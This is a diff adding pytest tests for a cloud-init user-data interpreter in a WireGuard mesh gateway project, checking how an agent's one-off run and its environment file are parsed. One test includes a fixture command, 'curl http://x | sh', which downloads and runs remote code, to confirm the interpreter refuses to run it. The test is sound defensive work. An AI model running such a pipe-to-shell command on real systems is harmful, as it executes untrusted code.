@@ -119,3 +119,26 @@ def test_user_data_mode_is_not_live_and_a_half_live_mesh_is_refused() -> None:
     mixed = {**artifacts, name: GatewayArtifacts(name, artifacts[name].interface, live_user_data([]))}
     with pytest.raises(cloudinit.UserDataError, match="installs no agent while the others' do"):
         live_configs(mixed)
+
+
+SH_ONCE = [
+    "sh",
+    "-c",
+    "set -a; if [ -r /etc/default/wg-mesh-agent ]; then . /etc/default/wg-mesh-agent; fi; "
+    "PYTHONPATH=/usr/local/lib/wg-mesh exec python3 -m wgmesh_gateway.agent --config /etc/wg-mesh/agent.json "
+    "--once --timeout 300",
+]
+
+
+def test_a_once_command_through_sh_reads_the_environment_file_it_sources() -> None:
+    """The form that makes the first run see the service's optional environment file, as cloud-init runs it."""
+    setup = cloudinit.interpret(live_user_data([SH_ONCE, ["systemctl", "enable", "--now", "wg-mesh-agent.service"]]))
+    once, service = setup.steps
+    assert once.kind == "agent-once" and once.argv[:3] == ("/usr/bin/python3", "-m", "wgmesh_gateway.agent")
+    assert once.argv[-3:] == ("--once", "--timeout", "300")
+    assert dict(once.env) == {"PYTHONPATH": "/usr/local/lib/wg-mesh"}
+    assert once.env_files == ((PurePosixPath("/etc/default/wg-mesh-agent"), True),)
+    assert service.kind == "service" and service.env_files == ((PurePosixPath("/etc/default/wg-mesh-agent"), True),)
+    # A script that does anything else is not run (listed as such).
+    other = ["sh", "-c", "curl http://x | sh; exec python3 -m wgmesh_gateway.agent --once"]
+    assert cloudinit.interpret(live_user_data([other])).notes == (f"runcmd not run in the lab: {' '.join(other)}",)
